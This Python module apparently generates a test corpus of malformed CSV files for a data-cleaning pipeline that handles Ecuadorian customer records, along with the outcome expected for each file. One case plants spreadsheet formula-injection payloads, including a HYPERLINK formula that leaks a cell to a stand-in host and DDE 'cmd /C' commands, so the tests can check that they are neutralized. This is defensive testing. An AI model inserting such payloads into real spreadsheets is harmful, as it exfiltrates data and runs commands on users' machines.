"""A corpus of nasty CSV files, the way people in Ecuador really send them, with what must happen to each.

Run it to write the files and print the table::

    python -m tests.corpus.generate OUT_FOLDER          # every file, including the 500 000-row one
    python -m tests.corpus.generate OUT_FOLDER --small  # without the big one

``tests/test_robustness_corpus.py`` writes the corpus into a temporary folder at test time
(nothing is committed), drops every file through the clean and score handlers and checks
the outcome listed here plus the invariants that hold for every file.

Every file follows one contract (:data:`CONTRACT_YAML`): a cédula as the (personal) id,
name / phone / e-mail as personal text, an optional RUC, an amount, a date, a category and
a passthrough column.
"""

from __future__ import annotations

import argparse
import codecs
import csv
import io
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pandas as pd

CONTRACT_YAML = """
name: corpus
task: binary
target: {column: compro, positive: si, negative: 'no'}
id_column: cedula
locale: {name: es-EC, decimal: auto}
extra_columns: ignore
passthrough: [vendedor]
gates: {roc_auc: 0.55, precision: 0.2, recall: 0.2}
training: {time_budget_seconds: 5}
columns:
  cedula: {type: cedula, personal: true, nullable: false}
  nombre: {type: text, personal: true, required: false}
  telefono: {type: text, personal: true, required: false}
  email: {type: text, personal: true, required: false}
  ruc: {type: ruc, personal: true, required: false}  # a natural person's RUC is the cédula + 001
  monto: {type: numeric, min: 0, nullable: false}
  fecha: {type: date}
  categoria: {type: categorical, values: [Agrícola, Comercio, Servicios], unknown: missing}
  compro: {type: categorical, values: ['no', si], nullable: false}
"""

CATEGORIES = ("Agrícola", "Comercio", "Servicios")
FIRST_NAMES = ("Ana", "José", "María", "Iñaki", "Begoña", "Nuñez", "Sofía", "Andrés", "Martín", "Lucía")
LAST_NAMES = ("Peña", "Muñoz", "Ordóñez", "Castañeda", "Yánez", "Chávez", "Guzmán", "Íñiguez")
SELLERS = ("Peña «norte»", "Muñoz € sur", "Ñandú", "José-Luis", "Ana María")
COLUMNS = ["cedula", "nombre", "telefono", "email", "ruc", "monto", "fecha", "categoria", "vendedor"]
BIG_ROWS = 500_000


# --------------------------------------------------------------------------- valid identifiers


def cedulas(count: int, seed: int, *, province: int | None = None) -> list[str]:
    """Distinct valid cédulas (modulo-10 check digit), generated in bulk for test data.

    The code under test validates them with python-stdnum; ``tests/test_robustness_corpus.py``
    checks a sample of these against stdnum so the two never disagree silently.
    """
    rng = np.random.default_rng(seed)
    found: dict[str, None] = {}
    while len(found) < count:
        n = (count - len(found)) * 2 + 10
        prov = np.full(n, province) if province else rng.integers(1, 25, n)
        digits = np.column_stack([prov // 10, prov % 10, rng.integers(0, 6, n), rng.integers(0, 10, (n, 6))])
        products = digits * np.array([2, 1, 2, 1, 2, 1, 2, 1, 2])
        products = np.where(products > 9, products - 9, products)
        check = (10 - products.sum(axis=1) % 10) % 10
        numbers = digits @ (10 ** np.arange(9, 0, -1)) + check
        for value in numbers:
            found.setdefault(f"{value:010d}", None)
            if len(found) == count:
                break
    return list(found)


def ruc_of(cedula: str) -> str:
    return cedula + "001"  # a natural person's RUC: the cédula plus establishment 001


# --------------------------------------------------------------------------------- rows


def rows(count: int, seed: int, *, labeled: bool = False, day_first_evidence: bool = True, ids: list[str] | None = None) -> pd.DataFrame:
    """Rows as Python values: amounts as floats, dates as dates (the writers format them)."""
    rng = np.random.default_rng(seed)
    ids = ids if ids is not None else cedulas(count, seed)
    monto = np.round(rng.gamma(2.0, 600.0, count), 2)
    category = rng.choice(len(CATEGORIES), count)
    day = rng.integers(13 if day_first_evidence else 1, 29, count)
    frame = pd.DataFrame(
        {
            "cedula": ids,
            "nombre": [f"{FIRST_NAMES[i % 10]} {LAST_NAMES[(i * 7) % 8]}" for i in range(count)],
            "telefono": [f"09{(i * 7919) % 10**8:08d}" for i in range(count)],
            "email": [f"cliente{i}@correo.ec" for i in range(count)],
            "ruc": [ruc_of(c) if i % 3 == 0 else "" for i, c in enumerate(ids)],
            "monto": monto,
            "fecha": [pd.Timestamp(2025, int(m), int(d)) for m, d in zip(rng.integers(1, 13, count), day, strict=True)],
            "categoria": [CATEGORIES[c] for c in category],
            "vendedor": [SELLERS[i % len(SELLERS)] for i in range(count)],
        }
    )
    if labeled:
        signal = (monto > 1100) ^ (category == 2) ^ (rng.random(count) < 0.08)
        frame["compro"] = np.where(signal, "si", "no")
    return frame


def as_text(frame: pd.DataFrame, *, decimal: str = ",", thousands: str = ".", date_format: str = "%d/%m/%Y") -> pd.DataFrame:
    """Format amounts and dates the way Excel writes them for a locale."""
    out = frame.copy()

    def amount(value: float) -> str:
        text = f"{value:,.2f}"  # 1,234.56
        return text.replace(",", "\0").replace(".", decimal).replace("\0", thousands)

    if "monto" in out:
        out["monto"] = [amount(v) if isinstance(v, float) else v for v in out["monto"]]
    if "fecha" in out:
        out["fecha"] = [v.strftime(date_format) if isinstance(v, pd.Timestamp) else v for v in out["fecha"]]
    return out


def to_bytes(
    frame: pd.DataFrame,
    *,
    delimiter: str = ";",
    encoding: str = "cp1252",
    line_end: str = "\r\n",
    quoting: int = csv.QUOTE_MINIMAL,
    header: list[str] | None = None,
) -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=line_end, quoting=quoting)
    writer.writerow(header or list(frame.columns))
    writer.writerows(frame.astype(object).where(frame.notna(), "").itertuples(index=False))
    return buffer.getvalue().encode(encoding)


def excel_es(frame: pd.DataFrame, **options) -> bytes:
    """Spanish-locale Excel "CSV": cp1252, ';', decimal comma, dot thousands, dd/mm/yyyy, CRLF."""
    return to_bytes(as_text(frame), **options)


# -------------------------------------------------------------------------------- cases


@dataclass(frozen=True)
class Expect:
    status: str                                  # "clean" | "rejected"
    error_code: str | None = None                # rejected: the file-level code
    rows_in: int | None = None
    rows_clean: int | None = None
    rows_quarantined: int | None = None
    codes: dict[str, int] = field(default_factory=dict)   # quarantine error code -> rows
    details: dict[str, object] = field(default_factory=dict)  # manifest details that must match


@dataclass(frozen=True)
class Case:
    name: str
    what: str                      # what is nasty about the file
    outcome: str                   # what must happen to it, in words
    build: Callable[[], bytes]
    expect: Expect
    max_input_bytes: int | None = None  # a smaller size limit just for this file


def _late_accent() -> bytes:
    frame = rows(900, 31)
    frame.loc[899, "vendedor"] = "Peña Ñandú"  # the first non-ASCII byte comes after the 64 KiB sniff window
    frame["nombre"] = "Cliente"
    frame["vendedor"] = [v if i == 899 else "Ventas" for i, v in enumerate(frame["vendedor"])]
    frame["categoria"] = "Comercio"
    return excel_es(frame)


def _ragged() -> bytes:
    lines = excel_es(rows(40, 8)).decode("cp1252").split("\r\n")
    lines[5] += ";sobra;otra"          # row 6: two fields too many
    lines[9] = ";".join(lines[9].split(";")[:4])  # row 10: five fields short
    lines[20] += ";;"                  # row 21: only empty surplus: trimmed, kept
    return "\r\n".join(lines).encode("cp1252")


def _unclosed_quote() -> bytes:
    lines = excel_es(rows(30, 9)).decode("cp1252").split("\r\n")
    parts = lines[28].split(";")
    parts[1] = '"' + parts[1]          # Excel row 29 opens a quote that never closes; rows 30 and 31 end up inside it
    lines[28] = ";".join(parts)
    return "\r\n".join(lines).encode("cp1252")


def _nul_bytes() -> bytes:
    data = bytearray(excel_es(rows(400, 10)))
    lines = bytes(data).split(b"\r\n")
    for index in (3, 50, 200):
        lines[index] = lines[index].replace(b";", b"\x00;", 1)
    return b"\r\n".join(lines)


def _mixed_line_endings() -> bytes:
    lines = excel_es(rows(60, 11)).decode("cp1252").split("\r\n")
    ends = ["\r\n", "\n", "\r"]
    return "".join(line + ends[i % 3] for i, line in enumerate(lines) if line).encode("cp1252")


def _quoted_newlines() -> bytes:
    frame = rows(50, 12)
    frame["vendedor"] = [f"línea uno\r\nlínea dos; con «;»\n{v}" if i % 5 == 0 else v for i, v in enumerate(frame["vendedor"])]
    frame["nombre"] = [f'{v} "el {i}"' for i, v in enumerate(frame["nombre"])]
    return excel_es(frame)


def _huge_field() -> bytes:
    frame = rows(20, 13)
    frame["observaciones"] = ""
    frame.loc[7, "observaciones"] = "texto pegado de un correo " * 40_000  # ~1 MB in one cell
    return excel_es(frame)


def _leading_zeros() -> bytes:
    frame = rows(60, 14)
    guayas = cedulas(60, 140, province=9)  # 09...: Excel turns 0912... into 912...
    frame["cedula"] = [c[1:] if i % 2 == 0 else c for i, c in enumerate(guayas)]
    frame["ruc"] = [ruc_of(c)[1:] if i % 4 == 0 else "" for i, c in enumerate(guayas)]
    return excel_es(frame)


def _invalid_identifiers() -> bytes:
    frame = rows(40, 15)
    bad = {2: "1710034066", 5: "17100340", 8: "ABC1234567", 11: "9,12E+08", 14: "3010034065"}
    for index, value in bad.items():
        frame.loc[index, "cedula"] = value
    frame.loc[20, "ruc"] = "1790012345002"  # bad RUC check digit
    return excel_es(frame)


def _duplicate_ids() -> bytes:
    frame = rows(30, 16)
    frame.loc[10, "cedula"] = frame.loc[3, "cedula"]
    frame.loc[20, "cedula"] = frame.loc[3, "cedula"]
    guayas = cedulas(1, 160, province=9)[0]
    frame.loc[25, "cedula"] = guayas
    frame.loc[26, "cedula"] = guayas[1:]  # the same person, leading zero lost: still a duplicate
    return excel_es(frame)


def _bad_values() -> bytes:
    frame = as_text(rows(40, 17))
    frame.loc[1, "monto"] = "mucho"
    frame.loc[2, "monto"] = "-5,00"
    frame.loc[3, "fecha"] = "31/02/2025"
    frame.loc[4, "monto"] = ""
    frame.loc[5, "categoria"] = "Minería"      # unknown category: scored as missing, counted
    data = to_bytes(frame)
    return data + b";;;;;;;;\r\n;;;;;;;;\r\n"   # Excel's empty trailing rows


def _injection() -> bytes:
    frame = as_text(rows(20, 18))
    frame.loc[0, "vendedor"] = '=HYPERLINK("http://x.example/?leak="&A1;"clic")'
    frame.loc[1, "vendedor"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    frame.loc[2, "vendedor"] = "+cmd|' /C notepad'!A0"
    frame.loc[3, "vendedor"] = "-2+3"
    frame.loc[4, "vendedor"] = "\t=1+1"
    frame.loc[5, "monto"] = "=10*10"     # not a number: quarantined, and the quarantine copy is neutralized
    frame.loc[6, "monto"] = "-12,50"     # below the minimum: quarantined, written as the number it is
    return to_bytes(frame)


def _header_variants() -> bytes:
    frame = rows(25, 19)
    header = ["Cédula", " NOMBRE ", "Teléfono", "E-mail", "R.U.C.", "Monto", "FECHA", "Categoría", "Vendedor"]
    return excel_es(frame, header=header)


def _dates_month_first() -> bytes:
    return to_bytes(as_text(rows(30, 20), date_format="%m/%d/%Y"))


def _dates_mixed() -> bytes:
    frame = rows(40, 21)
    text = as_text(frame)
    text["fecha"] = [v.strftime("%m/%d/%Y") if i % 2 else v.strftime("%d/%m/%Y") for i, v in enumerate(frame["fecha"])]
    return to_bytes(text)


def _blank_lines() -> bytes:
    lines = excel_es(rows(30, 22)).decode("cp1252").split("\r\n")
    lines.insert(10, "")
    lines.insert(20, "")
    return "\r\n".join(lines).encode("cp1252")


def _xlsx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return buffer.getvalue()


def _missing_tokens() -> bytes:
    frame = as_text(rows(20, 23))
    frame.loc[0, "nombre"] = "N/A"
    frame.loc[1, "telefono"] = "#N/A"
    frame.loc[2, "ruc"] = "  "
    frame.loc[3, "fecha"] = "s/d"
    frame.loc[4, "categoria"] = "null"
    frame.loc[5, "email"] = "Sin dato"
    return to_bytes(frame)


def _too_large() -> bytes:
    return excel_es(rows(12_000, 24))


def big_file(path: Path, count: int = BIG_ROWS, seed: int = 99) -> Path:
    """The 500 000-row file, written in blocks (not kept in the repository: generated when needed)."""
    ids = cedulas(count, seed)  # distinct across the whole file: blocks drawn apart would collide
    with open(path, "wb") as handle:
        for start in range(0, count, 100_000):
            size = min(100_000, count - start)
            block = as_text(rows(size, seed + start, ids=ids[start : start + size]))
            if start == 0:
                block.loc[5, "monto"] = "mucho"  # one bad amount and one duplicate id, so both paths run
                block.loc[6, "cedula"] = block.loc[1, "cedula"]
            data = to_bytes(block)
            handle.write(data if start == 0 else data.split(b"\r\n", 1)[1])
    return path


SMALL = 40

CASES: list[Case] = [
    Case("utf8_comma.csv", "UTF-8 without BOM, ',' delimiter, decimal point", "all rows clean",
         lambda: to_bytes(as_text(rows(SMALL, 1), decimal=".", thousands=""), delimiter=",", encoding="utf-8", line_end="\n"),
         Expect("clean", rows_in=SMALL, rows_clean=SMALL, details={"encoding": "utf-8", "delimiter": ",", "decimal": ".", "unknown_categories": 0})),
    Case("utf8_bom_semicolon.csv", "UTF-8 with BOM, ';', decimal comma with dot thousands", "all rows clean",
         lambda: excel_es(rows(SMALL, 2), encoding="utf-8-sig"),
         Expect("clean", rows_in=SMALL, rows_clean=SMALL, details={"encoding": "utf-8-sig", "decimal": ",", "unknown_categories": 0})),
    Case("excel_es_cp1252.csv", "Spanish Excel: cp1252, ';', 1.234,56, dd/mm/yyyy, CRLF, accents", "all rows clean, accents intact",
         lambda: excel_es(rows(SMALL, 3)),
         Expect("clean", rows_in=SMALL, rows_clean=SMALL, details={"encoding": "cp1252", "decimal": ",", "unknown_categories": 0})),
    Case("cp1252_accent_after_64k.csv", "cp1252 whose first accent comes after the 64 KiB sniff window", "all rows clean, the late accent intact",
         _late_accent, Expect("clean", rows_in=900, rows_clean=900, details={"unknown_categories": 0})),
    Case("tab_delimited.csv", "tab-delimited UTF-8", "all rows clean",
         lambda: to_bytes(as_text(rows(SMALL, 4)), delimiter="\t", encoding="utf-8"),
         Expect("clean", rows_in=SMALL, rows_clean=SMALL, details={"delimiter": "\t"})),
    Case("pipe_delimited.csv", "'|'-delimited export of a legacy system", "all rows clean",
         lambda: to_bytes(as_text(rows(SMALL, 5).assign(vendedor="Peña Ñandú")), delimiter="|", encoding="latin-1"),
         Expect("clean", rows_in=SMALL, rows_clean=SMALL, details={"delimiter": "|"})),
    Case("utf16_unicode_text.csv", "Excel 'Unicode text': UTF-16 LE with BOM, tabs", "all rows clean",
         lambda: to_bytes(as_text(rows(SMALL, 6)), delimiter="\t", encoding="utf-16"),
         Expect("clean", rows_in=SMALL, rows_clean=SMALL, details={"encoding": "utf-16", "unknown_categories": 0})),
    Case("excel_sep_line.csv", "first line 'sep=;' (Excel's delimiter hint)", "hint honoured and skipped; all rows clean",
         lambda: b"sep=;\r\n" + excel_es(rows(SMALL, 7)),
         Expect("clean", rows_in=SMALL, rows_clean=SMALL, details={"excel_sep_line": True})),
    Case("quoted_newlines_and_quotes.csv", "quoted cells with CRLF/LF, ';' and doubled quotes inside", "all rows clean; a multi-line cell is one row",
         _quoted_newlines, Expect("clean", rows_in=50, rows_clean=50)),
    Case("trailing_empty_columns.csv", "header and rows end in ';;' (empty columns Excel keeps)", "empty columns dropped; all rows clean",
         lambda: excel_es(rows(SMALL, 24).assign(**{"": "", " ": ""})),
         Expect("clean", rows_in=SMALL, rows_clean=SMALL)),
    Case("trailing_delimiter_rows_only.csv", "every data row ends in ';', the header does not", "read as an empty extra column; all rows clean",
         lambda: b"\r\n".join(line + (b";" if i and line else b"") for i, line in enumerate(excel_es(rows(SMALL, 25)).split(b"\r\n"))),
         Expect("clean", rows_in=SMALL, rows_clean=SMALL)),
    Case("header_variants.csv", "headers differ by case, spaces, accents, punctuation ('Cédula', ' NOMBRE ', 'R.U.C.')", "mapped to the contract and reported; all rows clean",
         _header_variants, Expect("clean", rows_in=25, rows_clean=25)),
    Case("extra_columns.csv", "columns the contract does not name", "ignored (policy 'ignore'), listed in the manifest; 'vendedor' passes through",
         lambda: excel_es(rows(SMALL, 26).assign(observaciones="nota", sucursal="Quito")),
         Expect("clean", rows_in=SMALL, rows_clean=SMALL, details={"extra_columns": ["observaciones", "sucursal"]})),
    Case("missing_optional_columns.csv", "no nombre / telefono / email / ruc columns", "filled as missing, listed; all rows clean",
         lambda: excel_es(rows(SMALL, 27)[["cedula", "monto", "fecha", "categoria", "vendedor"]]),
         Expect("clean", rows_in=SMALL, rows_clean=SMALL, details={"missing_optional_columns": ["nombre", "telefono", "email", "ruc"]})),
    Case("missing_required_column.csv", "the 'monto' column is missing", "file-level report missing_columns",
         lambda: excel_es(rows(SMALL, 28).drop(columns=["monto"])), Expect("rejected", "missing_columns")),
    Case("columns_match_nothing.csv", "a different file altogether (no contract column)", "file-level report no_matching_columns",
         lambda: "producto;precio;stock\nArroz;1,20;40\n".encode("cp1252"), Expect("rejected", "no_matching_columns")),
    Case("empty.csv", "zero bytes", "file-level report empty_file", lambda: b"", Expect("rejected", "empty_file")),
    Case("only_bom.csv", "a UTF-8 BOM and nothing else", "file-level report empty_file", lambda: codecs.BOM_UTF8, Expect("rejected", "empty_file")),
    Case("header_only.csv", "a header and no rows", "file-level report no_rows",
         lambda: "cedula;nombre;monto;fecha;categoria\r\n".encode("cp1252"), Expect("rejected", "no_rows")),
    # A real workbook renamed .csv is read as a workbook (tests/ingest/test_workbook_reader.py); this one holds no sheet.
    Case("xlsx_renamed.csv", "an .xlsx workbook with no worksheet, saved with a .csv name", "file-level report no_sheet (read as a workbook by its content)",
         _xlsx, Expect("rejected", "no_sheet")),
    Case("random_binary.csv", "random bytes", "file-level report not_text",
         lambda: random.Random(3).randbytes(5000), Expect("rejected", "not_text")),
    Case("nul_bytes.csv", "three rows carry NUL bytes (a legacy system's padding)", "those rows quarantined control_character; the rest clean",
         _nul_bytes, Expect("clean", rows_in=400, rows_clean=397, rows_quarantined=3, codes={"control_character": 3})),
    Case("ragged_rows.csv", "one row with two extra fields, one five short, one with only empty surplus", "two rows quarantined ragged_row; the empty surplus trimmed",
         _ragged, Expect("clean", rows_in=40, rows_clean=38, rows_quarantined=2, codes={"ragged_row": 2}, details={"rows_trimmed": 1})),
    Case("unclosed_quote.csv", "a quote opens in Excel row 29 of 31 and never closes, swallowing the last two rows", "that row quarantined unclosed_quote (its text says what it swallowed); 28 rows in",
         _unclosed_quote, Expect("clean", rows_in=28, rows_clean=27, rows_quarantined=1, codes={"unclosed_quote": 1})),
    Case("huge_field_1mb.csv", "one cell of about 1 MB", "read in full; all rows clean", _huge_field, Expect("clean", rows_in=20, rows_clean=20)),
    Case("mixed_line_endings.csv", "CRLF, LF and CR line ends mixed", "all rows clean", _mixed_line_endings, Expect("clean", rows_in=60, rows_clean=60)),
    Case("blank_lines.csv", "blank lines in the middle", "skipped (they are no rows); all rows clean", _blank_lines, Expect("clean", rows_in=30, rows_clean=30)),
    Case("duplicate_header_names.csv", "'monto' twice in the header", "file-level report duplicate_columns (which one is right is unknowable)",
         lambda: excel_es(rows(SMALL, 29)[["cedula", "monto", "fecha", "categoria"]].assign(monto2=1.0), header=["cedula", "monto", "fecha", "categoria", "monto"]),
         Expect("rejected", "duplicate_columns")),
    Case("duplicate_extra_header.csv", "an extra column ('notas') twice", "harmless: both ignored; all rows clean",
         lambda: excel_es(rows(SMALL, 30).assign(n1="a", n2="b"), header=COLUMNS + ["notas", "notas"]),
         Expect("clean", rows_in=SMALL, rows_clean=SMALL)),
    Case("duplicate_ids.csv", "a cédula three times, and one twice (once without its leading zero)", "later copies quarantined duplicate_id",
         _duplicate_ids, Expect("clean", rows_in=30, rows_clean=27, rows_quarantined=3, codes={"duplicate_id": 3})),
    Case("cedula_leading_zero_lost.csv", "Excel dropped the leading zero of Guayas cédulas and RUCs (9 / 12 digits)", "repaired (check digit proves it), counted in the manifest; all rows clean",
         _leading_zeros, Expect("clean", rows_in=60, rows_clean=60, details={"repaired_identifiers": {"cedula": 30, "ruc": 15}})),
    Case("invalid_identifiers.csv", "bad check digit, too short, letters, Excel scientific notation, bad province; a bad RUC", "those rows quarantined invalid_cedula / invalid_ruc, values masked in messages",
         _invalid_identifiers, Expect("clean", rows_in=40, rows_clean=34, rows_quarantined=6, codes={"invalid_cedula": 5, "invalid_ruc": 1})),
    Case("bad_values.csv", "a word as amount, a negative amount, 31/02, a missing amount, an unknown category, two ';;;;' rows", "quarantined with their codes; unknown category scored as missing",
         _bad_values, Expect("clean", rows_in=42, rows_clean=36, rows_quarantined=6, codes={"not_a_number": 1, "below_min": 1, "bad_date": 1, "missing_value": 1, "empty_row": 2},
                details={"unknown_categories": 1})),
    Case("csv_injection.csv", "cells starting with = + - @ tab; a formula as amount; a negative amount", "formulas neutralized with a leading quote in predictions and quarantine; numbers untouched",
         _injection, Expect("clean", rows_in=20, rows_clean=18, rows_quarantined=2, codes={"not_a_number": 1, "below_min": 1})),
    Case("dates_month_first.csv", "dates written mm/dd/yyyy (an English-locale Excel), contract expects dd/mm/yyyy", "the file's dates prove month-first: every date read month-first (issue 13)",
         _dates_month_first, Expect("clean", rows_in=30, rows_clean=30, details={"date_formats": {"fecha": ["%m/%d/%Y"]}})),
    Case("dates_mixed_order.csv", "half the rows dd/mm/yyyy, half mm/dd/yyyy", "file-level report mixed_date_order",
         _dates_mixed, Expect("rejected", "mixed_date_order")),
    Case("ambiguous_thousands.csv", "';' file whose amounts are all like 1.234 (a thousand? one and a bit?)", "the contract's locale (es-EC) decides: 1.234 = 1234; recorded as decimal_source=locale",
         lambda: to_bytes(as_text(rows(SMALL, 32)).assign(monto=[f"{1 + i % 9}.{i % 1000:03d}" for i in range(SMALL)])),
         Expect("clean", rows_in=SMALL, rows_clean=SMALL, details={"decimal": ",", "decimal_source": "locale"})),
    Case("decimal_point_semicolon.csv", "';' file with decimal points (1234.56)", "the file proves the decimal point; all rows clean",
         lambda: to_bytes(as_text(rows(SMALL, 33), decimal=".", thousands="")),
         Expect("clean", rows_in=SMALL, rows_clean=SMALL, details={"decimal": ".", "decimal_source": "file"})),
    Case("missing_value_tokens.csv", "N/A, #N/A, spaces, s/d, null, Sin dato in optional cells", "read as missing; all rows clean",
         _missing_tokens, Expect("clean", rows_in=20, rows_clean=20)),
    Case("too_large.csv", "larger than the size limit (lowered to 256 KiB for this file)", "file-level report too_large, nothing read",
         _too_large, Expect("rejected", "too_large"), max_input_bytes=256 * 1024),
]


def write_corpus(folder: Path, *, big: bool = True) -> list[tuple[Case | None, Path]]:
    folder.mkdir(parents=True, exist_ok=True)
    written: list[tuple[Case | None, Path]] = []
    for case in CASES:
        path = folder / case.name
        path.write_bytes(case.build())
        written.append((case, path))
    if big:
        written.append((None, big_file(folder / "big_500k.csv")))
    return written


def training_file(path: Path, count: int = 4000, seed: int = 7) -> Path:
    path.write_bytes(excel_es(rows(count, seed, labeled=True)))
    return path


def table() -> str:
    lines = ["| file | what is nasty | what happens |", "|---|---|---|"]
    for case in CASES:
        lines.append(f"| `{case.name}` | {case.what} | {case.outcome} |")
    lines.append(f"| `big_500k.csv` | {BIG_ROWS:,} rows (~50 MB), generated at test time | one bad amount and one duplicate id quarantined, the rest clean and scored |")
    return "\n".join(lines)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("folder", type=Path)
    parser.add_argument("--small", action="store_true", help="leave out the 500 000-row file")
    args = parser.parse_args()
    for _, path in write_corpus(args.folder, big=not args.small):
        print(f"{path.stat().st_size:>12,}  {path}")
    print()
    print(table())


if __name__ == "__main__":
    main()
